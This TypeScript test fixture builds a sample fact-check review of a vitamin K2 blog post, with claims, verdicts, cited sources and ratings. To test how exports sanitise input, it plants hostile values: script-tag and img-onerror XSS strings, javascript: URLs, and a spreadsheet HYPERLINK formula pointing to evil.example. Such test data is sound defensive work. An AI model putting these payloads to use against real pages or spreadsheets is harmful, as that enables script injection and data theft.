import type { TClaimRecord, TEvidenceRecord, TReviewDocument, TSourceRecord } from "@/domain/schemas/review";
import { ZReviewDocument } from "@/domain/schemas/review";

/**
 * A realistic review of a vitamin K2 blog post with one claim of every verdict, evidence with
 * DOIs and PMIDs, and hostile or unusual input: a script tag, a javascript: source URL, a
 * spreadsheet formula as a finding, and µg ≥ − αβγ 中文 text.
 */

export const XSS_RESTATEMENT = "<script>alert(1)</script> K2 cures everything";
export const JAVASCRIPT_URL = "javascript:alert(1)";
export const FORMULA_FINDING = '=HYPERLINK("http://evil.example/steal","click me")';
export const UNICODE_SAMPLES = ["µg", "≥", "−", "αβγ", "中文"] as const;

const paragraphs = [
  "Reversing calcification and the miracle of vitamin K2",
  "Matrix GLA protein is the only known substance that stops arteries from calcifying (Luo et al., 1997).",
  "Mice bred without it died within two months because their arteries calcified and ruptured.",
  "Nearly half of all deaths are caused by the calcification of the arteries.",
  "Take 180 µg of MK-7 daily; levels ≥ 45 µg cut risk by −50%, as αβγ studies in 中文 journals show.",
  "K2 remains in circulation between 24 and 48 hours, far longer than K1.",
  "Honestly, everyone should eat more natto.",
  "Osteocalcin-deficient mice have denser bones.",
];

export const ARTICLE_TEXT = paragraphs.join("\n\n");

function blocks(): TReviewDocument["revision"]["blocks"] {
  let start = 0;
  return paragraphs.map((paragraph, index) => {
    const block = { kind: index === 0 ? ("heading" as const) : ("paragraph" as const), start, end: start + paragraph.length, section: "article" as const, ...(index === 0 ? { level: 1 } : {}) };
    start += paragraph.length + 2;
    return block;
  });
}

function anchor(exact: string): Pick<TClaimRecord, "position" | "quote"> {
  const start = ARTICLE_TEXT.indexOf(exact);
  if (start < 0) throw new Error(`Fixture quote not in text: ${exact}`);
  const end = start + exact.length;
  return {
    position: { type: "TextPositionSelector", start, end },
    quote: {
      type: "TextQuoteSelector",
      exact,
      prefix: ARTICLE_TEXT.slice(Math.max(0, start - 32), start),
      suffix: ARTICLE_TEXT.slice(end, end + 32),
    },
  };
}

function source(fields: Partial<TSourceRecord> & Pick<TSourceRecord, "id" | "title">): TSourceRecord {
  const record: TSourceRecord = { authors: [], container: null, year: null, doi: null, pmid: null, url: null, csl: { type: "article-journal" }, ...fields };
  return record;
}

export const SOURCES: TSourceRecord[] = [
  source({
    id: "src-luo-1997",
    title: "Spontaneous calcification of arteries and cartilage in mice lacking matrix GLA protein",
    authors: ["Luo, G.", "Ducy, P.", "McKee, M. D."],
    container: "Nature",
    year: 1997,
    doi: "10.1038/386078a0",
    pmid: "9052783",
    csl: {
      id: "src-luo-1997",
      type: "article-journal",
      title: "Spontaneous calcification of arteries and cartilage in mice lacking matrix GLA protein",
      author: [{ family: "Luo", given: "G." }, { family: "Ducy", given: "P." }, { family: "McKee", given: "M. D." }],
      "container-title": "Nature",
      issued: { "date-parts": [[1997]] },
      volume: "386",
      issue: "6620",
      page: "78-81",
      DOI: "10.1038/386078a0",
      PMID: "9052783",
    },
  }),
  source({
    id: "src-ducy-1996",
    title: "Increased bone formation in osteocalcin-deficient mice",
    authors: ["Ducy, P."],
    container: "Nature",
    year: 1996,
    doi: "10.1038/382448a0",
    pmid: "8684484",
    csl: {
      type: "article-journal",
      title: "Increased bone formation in osteocalcin-deficient mice",
      author: [{ family: "Ducy", given: "P." }],
      "container-title": "Nature",
      issued: { "date-parts": [[1996]] },
      DOI: "10.1038/382448a0",
      PMID: "8684484",
    },
  }),
  source({
    id: "src-hostile",
    title: "Miracle K2 <img src=x onerror=alert(1)> shop",
    authors: ["Promo, Team"],
    url: JAVASCRIPT_URL,
    csl: { id: "src-hostile", type: "webpage", title: "Miracle K2 <img src=x onerror=alert(1)> shop", author: [{ literal: "Promo Team" }], URL: JAVASCRIPT_URL },
  }),
  source({
    id: "src-zh",
    title: "维生素K2与血管钙化：αβγ 研究综述",
    authors: ["王, 伟"],
    container: "中华医学杂志",
    year: 2020,
    url: "https://example.cn/k2?id=1&lang=zh",
    csl: {
      id: "src-zh",
      type: "article-journal",
      title: "维生素K2与血管钙化：αβγ 研究综述",
      author: [{ family: "王", given: "伟" }],
      "container-title": "中华医学杂志",
      issued: { "date-parts": [[2020]] },
      URL: "https://example.cn/k2?id=1&lang=zh",
    },
  }),
  source({
    id: "src-ods",
    title: "Vitamin K: Fact sheet for health professionals",
    authors: ["Office of Dietary Supplements"],
    container: "National Institutes of Health",
    year: 2021,
    url: "https://ods.od.nih.gov/factsheets/VitaminK-HealthProfessional/",
    csl: {
      id: "src-ods",
      type: "webpage",
      title: "Vitamin K: Fact sheet for health professionals",
      author: [{ literal: "Office of Dietary Supplements" }],
      issued: { "date-parts": [[2021]] },
      URL: "https://ods.od.nih.gov/factsheets/VitaminK-HealthProfessional/",
    },
  }),
];

function evidence(id: string, sourceId: string, fields: Partial<TEvidenceRecord> = {}): TEvidenceRecord {
  return { id, sourceId, finding: "", locator: null, stance: "supports", studyDesign: "animal", note: null, ...fields };
}

function claim(id: string, exact: string, fields: Partial<TClaimRecord>): TClaimRecord {
  return {
    id,
    ...anchor(exact),
    anchor: { method: "created", score: 1, orphaned: false },
    restatement: "",
    tags: [],
    verdict: null,
    rationale: "",
    checkable: true,
    version: 1,
    createdAt: "2025-03-01T09:00:00.000Z",
    updatedAt: "2025-03-02T10:30:00.000Z",
    evidence: [],
    ratings: [],
    ...fields,
  };
}

const rating = (id: string, verdict: NonNullable<TClaimRecord["verdict"]>, rationale: string) => ({
  id,
  reviewerEmail: "rita@example.org",
  reviewerName: "Rita Reviewer",
  verdict,
  confidence: 4,
  rationale,
  updatedAt: "2025-03-02T10:00:00.000Z",
});

export const CLAIMS: TClaimRecord[] = [
  // Listed out of reading order on purpose: exports must sort by position.
  claim("claim-deaths", "Nearly half of all deaths are caused by the calcification of the arteries.", {
    restatement: "Arterial calcification causes nearly half of all deaths.",
    tags: ["quantitative", "causal"],
    verdict: "contradicted",
    rationale: "Cardiovascular disease causes about a third of deaths; calcification is one marker among many.",
    evidence: [evidence("ev-deaths-ods", "src-ods", { stance: "contradicts", studyDesign: "statistics", finding: "CVD accounts for about 32% of global deaths." })],
    ratings: [rating("rt-deaths", "contradicted", "Overstated.")],
  }),
  claim("claim-mgp", "Matrix GLA protein is the only known substance that stops arteries from calcifying", {
    restatement: "Matrix GLA protein is the only known inhibitor of arterial calcification.",
    tags: ["absolute", "cited"],
    verdict: "mostly_supported",
    rationale: "MGP is a key inhibitor, but **not the only one**: pyrophosphate and fetuin-A also inhibit.\n\nSee [a link](javascript:alert(1)) <img src=x onerror=alert(1)>.",
    evidence: [evidence("ev-mgp-luo", "src-luo-1997", { finding: "MGP-null mice calcify their arteries.", locator: "Fig. 2", studyDesign: "animal" })],
    ratings: [rating("rt-mgp", "mostly_supported", "Mostly right.")],
  }),
  claim("claim-mice", "Mice bred without it died within two months because their arteries calcified and ruptured.", {
    restatement: "MGP-knockout mice die within two months from arterial calcification.",
    tags: ["cited"],
    verdict: "supported",
    rationale: "Exactly what Luo et al. report.",
    evidence: [
      evidence("ev-mice-luo", "src-luo-1997", {
        finding: "All MGP-null mice died within two months from arterial calcification leading to blood-vessel rupture.",
        locator: "p. 79",
      }),
    ],
    ratings: [rating("rt-mice", "supported", "Matches the paper.")],
  }),
  claim("claim-dose", "Take 180 µg of MK-7 daily; levels ≥ 45 µg cut risk by −50%, as αβγ studies in 中文 journals show.", {
    restatement: "Taking 180 µg MK-7 daily (≥ 45 µg) halves risk (−50%), per αβγ studies in 中文 journals.",
    tags: ["quantitative", "medical"],
    verdict: "unsupported",
    rationale: "No trial shows a −50% risk reduction at ≥ 45 µg.",
    evidence: [
      evidence("ev-dose-zh", "src-zh", { stance: "inconclusive", studyDesign: "systematic_review", finding: "综述：αβγ 指标改善，但无临床终点 (≥ 45 µg)。" }),
      evidence("ev-dose-hostile", "src-hostile", { stance: "background", studyDesign: "other", finding: FORMULA_FINDING, note: "+1 from the vendor; @ceo says -50%" }),
    ],
    ratings: [rating("rt-dose", "unsupported", "No evidence.")],
  }),
  claim("claim-half-life", "K2 remains in circulation between 24 and 48 hours", {
    restatement: "MK-7 stays in the blood for 24–48 hours.",
    tags: ["quantitative"],
    verdict: "mixed",
    rationale: "MK-7's half-life is about 3 days; MK-4 clears within hours.",
    evidence: [evidence("ev-hl-ods", "src-ods", { stance: "partially_supports", studyDesign: "guideline", finding: "MK-7 has a long half-life." })],
    ratings: [rating("rt-hl", "mixed", "Depends on the form.")],
  }),
  claim("claim-natto", "Honestly, everyone should eat more natto.", {
    restatement: "Everyone should eat more natto.",
    tags: ["advice"],
    verdict: "not_checkable",
    checkable: false,
    rationale: "Advice, not a factual claim.",
  }),
  claim("claim-osteo", "Osteocalcin-deficient mice have denser bones.", {
    restatement: XSS_RESTATEMENT,
    tags: ["cited"],
    verdict: null,
    rationale: "Pending: see `Ducy 1996` | and [x](javascript:alert(1)).",
    evidence: [evidence("ev-osteo-ducy", "src-ducy-1996", { finding: "Higher bone mass in osteocalcin-deficient mice.", stance: "supports" })],
  }),
];

export function buildReviewFixture(): TReviewDocument {
  return ZReviewDocument.parse({
    format: "claimcheck-review",
    formatVersion: 1,
    exportedAt: "2025-03-05T12:00:00.000Z",
    article: {
      slug: "vitamin-k2",
      title: "Reversing calcification and the miracle of vitamin K2",
      author: "Dr. Example Author",
      sourceUrl: "https://blog.example.com/vitamin-k2",
      publishedAt: "2019-06-01T00:00:00.000Z",
      status: "published",
      summary: "The post mixes a sound animal finding with large overstatements.\nDoses such as 180 µg, thresholds ≥ 45 µg and −50% effects are unsupported (αβγ, 中文 sources).",
      createdAt: "2025-03-01T08:00:00.000Z",
      updatedAt: "2025-03-04T16:00:00.000Z",
    },
    revision: { number: 1, text: ARTICLE_TEXT, blocks: blocks(), contentHash: "sha256-fixture", createdAt: "2025-03-01T08:00:00.000Z" },
    sources: SOURCES,
    claims: CLAIMS,
  });
}

export const EXPORT_OPTIONS = { baseUrl: "https://claimcheck.example/", organization: { name: "Example Fact Desk", url: "https://factdesk.example" } };
